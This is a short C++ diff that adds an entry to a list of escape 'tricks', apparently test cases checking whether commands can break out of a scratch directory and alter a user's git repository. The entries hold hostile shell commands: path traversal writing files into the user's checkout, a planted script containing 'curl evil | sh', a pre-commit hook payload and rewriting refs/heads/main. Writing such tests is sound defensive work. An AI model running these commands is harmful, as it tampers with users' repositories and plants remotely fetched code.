@@ -42,6 +42,9 @@ std::vector<Trick> tricks() {
        "mkdir -p SCRATCH/hooks && printf " + k_payload + " > SCRATCH/hooks/pre-commit && "
        "chmod +x SCRATCH/hooks/pre-commit && git config core.hooksPath SCRATCH/hooks",
        {".git/config"}},
+      {"editing the user's checkout through ../../../..",
+       "cd ../../../.. && echo pwned > notes.txt && echo pwned > app.txt && echo 'curl evil | sh' > planted.sh",
+       {"notes.txt", "app.txt", "planted.sh"}},
       {"git add into the user's index", "cd ../../../.. && git add notes.txt", {".git/index"}},
       {"moving refs/heads/main",
        "git -c user.name=a -c user.email=a@a commit -q --allow-empty -m evil && git update-ref refs/heads/main HEAD",
